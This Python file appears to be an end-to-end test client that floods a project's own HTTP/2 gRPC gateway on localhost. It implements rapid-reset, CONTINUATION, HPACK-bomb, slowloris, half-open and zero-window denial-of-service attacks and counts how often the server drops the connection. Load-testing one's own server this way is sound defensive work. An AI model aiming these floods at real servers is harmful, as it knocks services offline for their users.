"""The floods of a hostile client, as a program of its own: `python -m tests.e2e.flooding FLOOD PORT SECONDS COUNT`.

It ends after SECONDS and prints one line of JSON: connections made, how many of them the server ended, bytes sent. A
PEM file with a node's certificate and key may follow; without one the client is a stranger.
"""

from __future__ import annotations

import asyncio
import contextlib
import itertools
import json
import ssl
import struct
import sys
import time
from collections.abc import Awaitable, Callable
from dataclasses import asdict, dataclass
from pathlib import Path

import uvloop
from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    HeadersFrame,
    PingFrame,
    RstStreamFrame,
    SettingsFrame,
)

from bettercompute.protocol import messages, service

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
NO_WINDOW = SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
TLS_RECORD_BEGUN = b"\x16\x03\x01\x02\x00" + b"\x01\x00\x01\xfc\x03\x03" + bytes(64)


@dataclass
class Figures:
    connections: int = 0
    ended_by_server: int = 0
    sent_bytes: int = 0


FIGURES = Figures()


def request(path: str = service.JOIN, extra: int = 0, *, extra_chars: int = 0) -> bytes:
    headers = [
        (":method", "POST"),
        (":scheme", "https"),
        (":path", path),
        (":authority", "gateway"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *((f"x-{number}", "v" * extra_chars) for number in range(extra)),
    ]
    return Encoder().encode(headers, huffman=False)


def headers_frame(stream_id: int, block: bytes, *flags: str) -> HeadersFrame:
    return HeadersFrame(stream_id, data=block, flags=flags)


def wire(*frames: Frame) -> bytes:
    return b"".join(frame.serialize() for frame in frames)


def rapid_resets() -> bytes:
    block = request()
    return b"".join(
        wire(headers_frame(number, block, "END_HEADERS"), RstStreamFrame(number, error_code=8))
        for number in range(1, 2_000, 2)
    )


def continuations(piece: bytes, count: int) -> bytes:
    return wire(headers_frame(1, request())) + ContinuationFrame(1, data=piece).serialize() * count


def hpack_bomb() -> bytes:
    # One entry of 4 KB in the table, then 15,000 times one byte that names it: 60 MB of headers in one frame.
    entry = b"\x40\x01x" + b"\x7f" + b"\xa1\x1e" + b"v" * 4_000
    return wire(headers_frame(1, request() + entry + b"\xbe" * 11_000, "END_HEADERS"))


def header_lists() -> bytes:
    # Each is whole and within the bounds of a frame and a block, and lists more than the server takes.
    block = request(extra=160, extra_chars=90)
    assert len(block) < 16_384 < len(block) + 160 * 32
    return b"".join(wire(headers_frame(number, block, "END_HEADERS")) for number in range(1, 200, 2))


def oversized_prefixes() -> bytes:
    block, prefix = request(), b"\x00" + struct.pack(">I", 0xFFFF_FFFF)
    return b"".join(
        wire(headers_frame(number, block, "END_HEADERS"), DataFrame(number, data=prefix + b"x" * 1_000))
        for number in range(1, 400, 2)
    )


def unfinished_messages() -> bytes:
    # 5 MiB announced on each stream, and never more than a part of it sent.
    block, prefix = request("/no.such/Method"), b"\x00" + struct.pack(">I", 5 * 1024 * 1024)
    heads = [wire(headers_frame(number, block, "END_HEADERS")) for number in range(1, 64, 2)]
    bodies = [wire(DataFrame(number, data=prefix + b"x" * 16_000)) for number in range(1, 64, 2)]
    return b"".join(head + body for head, body in zip(heads, bodies, strict=True))


BLOBS: dict[str, Callable[[], bytes]] = {
    "rapid-reset": rapid_resets,
    "ping": lambda: PingFrame(0, opaque_data=b"12345678").serialize() * 4_000,
    "settings": lambda: SettingsFrame(0).serialize() * 4_000,
    "continuation": lambda: continuations(b"\x00\x01x\x7f\x80\x3e" + b"v" * 8_000, 200),
    "continuation-empty": lambda: continuations(b"", 8_000),
    "hpack-bomb": hpack_bomb,
    "header-lists": header_lists,
    "oversized-prefixes": oversized_prefixes,
    "unfinished-messages": unfinished_messages,
}


def tls(pem: str | None) -> ssl.SSLContext:
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    if pem is not None:
        context.load_cert_chain(pem)
    return context


class Connection:
    """One hostile connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.reader = reader
        self.writer = writer

    async def send(self, data: bytes) -> None:
        self.writer.write(data)
        FIGURES.sent_bytes += len(data)
        await self.writer.drain()

    async def read_to_the_end(self) -> None:
        while await self.reader.read(65_536):
            pass

    async def wait_for_the_end(self, within_s: float) -> None:
        with contextlib.suppress(TimeoutError):
            async with asyncio.timeout(within_s):
                await self.read_to_the_end()
                FIGURES.ended_by_server += 1


@contextlib.asynccontextmanager
async def connected(port: int, context: ssl.SSLContext | None):
    reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
    FIGURES.connections += 1
    try:
        yield Connection(reader, writer)
    finally:
        writer.transport.abort()


async def again(attack: Callable[[], Awaitable[None]], *, until: float) -> None:
    """Attack over and over; a connection that the server ends is no reason to stop."""
    while time.monotonic() < until:
        try:
            await attack()
        except OSError:
            FIGURES.ended_by_server += 1
            await asyncio.sleep(0.01)


async def hammer(port: int, context: ssl.SSLContext, blob: bytes, until: float) -> None:
    """Say the same until the server has had enough; then on a new connection."""

    async def attack() -> None:
        async with connected(port, context) as connection:
            reading = asyncio.ensure_future(connection.read_to_the_end())
            try:
                await connection.send(PREFACE + wire(SettingsFrame(0)))
                while not reading.done() and time.monotonic() < until:
                    await connection.send(blob)
                    await asyncio.wait((reading,), timeout=0.05)
                FIGURES.ended_by_server += reading.done()
            finally:
                reading.cancel()

    await again(attack, until=until)


async def half_open(port: int, said: bytes, until: float) -> None:
    async def attack() -> None:
        async with connected(port, None) as connection:
            if said:
                await connection.send(said)
            await connection.wait_for_the_end(until - time.monotonic())

    await again(attack, until=until)


async def drip(port: int, context: ssl.SSLContext, begun: bytes, until: float) -> None:
    """Send a request a byte at a time."""

    async def attack() -> None:
        async with connected(port, context) as connection:
            reading = asyncio.ensure_future(connection.read_to_the_end())
            try:
                await connection.send(PREFACE + wire(SettingsFrame(0)))
                for byte in itertools.chain(begun, itertools.repeat(0)):
                    if reading.done() or time.monotonic() > until:
                        break
                    await connection.send(bytes((byte,)))
                    await asyncio.wait((reading,), timeout=0.5)
                FIGURES.ended_by_server += reading.done()
            finally:
                reading.cancel()

    await again(attack, until=until)


async def never_read(port: int, context: ssl.SSLContext, until: float) -> None:
    """Ask and ask, and read no answer: neither the window of a stream nor that of TCP ever opens."""
    block = request("/no.such/Method")

    async def attack() -> None:
        async with connected(port, context) as connection:
            connection.writer.transport.pause_reading()
            await connection.send(PREFACE + wire(NO_WINDOW))
            for number in range(1, 100_000, 2):
                await connection.send(wire(headers_frame(number, block, "END_HEADERS", "END_STREAM")))
                # A write need not wait, and then nobody else would come to turn.
                await asyncio.sleep(0)

    await again(attack, until=until)


async def zero_window(port: int, pem: str, until: float) -> None:
    """A node that says Hello, sends events and never lets one byte of an answer through."""
    node_id = Path(pem).stem
    hello = messages.Hello(
        node_id=node_id, role=messages.AGENT_ROLE_NODE, boot_id=f"boot-{node_id}", journal_id=f"journal-{node_id}",
        proto_min=1, proto_max=1, daemon_version="1.0.0", process_id="p",
    )  # fmt: skip
    context = tls(pem)
    seq = itertools.count(1)

    async def attack() -> None:
        async with connected(port, context) as connection:
            reading = asyncio.ensure_future(connection.read_to_the_end())
            try:
                block = request(service.SESSION)
                await connection.send(PREFACE + wire(NO_WINDOW, headers_frame(1, block, "END_HEADERS")))
                await connection.send(data(messages.AgentFrame(hello=hello)))
                while not reading.done() and time.monotonic() < until:
                    request_spec = messages.AgentFrame(spec_request=messages.SpecRequest(reason="x" * 200))
                    update = messages.CommandUpdate(
                        command_id=f"c-{next(seq)}", state=messages.COMMAND_STATE_SUCCEEDED, attempt=1
                    )
                    frames = data(messages.AgentFrame(update=update)) + data(request_spec)
                    await connection.send(frames)
                    await asyncio.wait((reading,), timeout=0.005)
                FIGURES.ended_by_server += reading.done()
            finally:
                reading.cancel()
        await asyncio.sleep(1)

    await again(attack, until=until)


def data(frame: messages.AgentFrame) -> bytes:
    message = frame.SerializeToString()
    return wire(DataFrame(1, data=b"\x00" + struct.pack(">I", len(message)) + message))


async def flood(name: str, port: int, seconds: float, count: int, pems: list[str]) -> None:
    until = time.monotonic() + seconds
    context = tls(None)
    match name:
        case "half-open":
            attacks = [half_open(port, TLS_RECORD_BEGUN if number % 2 else b"", until) for number in range(count)]
        case "slowloris":
            begun = (wire(headers_frame(1, request())), wire(headers_frame(1, request(), "END_HEADERS")))
            attacks = [drip(port, context, begun[number % 2], until) for number in range(count)]
        case "never-read":
            attacks = [never_read(port, context, until) for _ in range(count)]
        case "zero-window":
            attacks = [zero_window(port, pem, until) for pem in pems[:count]]
        case _:
            blob = BLOBS[name]()
            attacks = [hammer(port, context, blob, until) for _ in range(count)]
    attacking = [asyncio.ensure_future(attack) for attack in attacks]
    await asyncio.wait(attacking, timeout=seconds)
    for attack in attacking:
        attack.cancel()
    for outcome in await asyncio.gather(*attacking, return_exceptions=True):
        if isinstance(outcome, Exception):
            raise outcome


FLOODS = (*BLOBS, "half-open", "slowloris", "never-read", "zero-window")


if __name__ == "__main__":
    uvloop.run(flood(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4]), sys.argv[5:]))
    sys.stdout.write(json.dumps(asdict(FIGURES)))
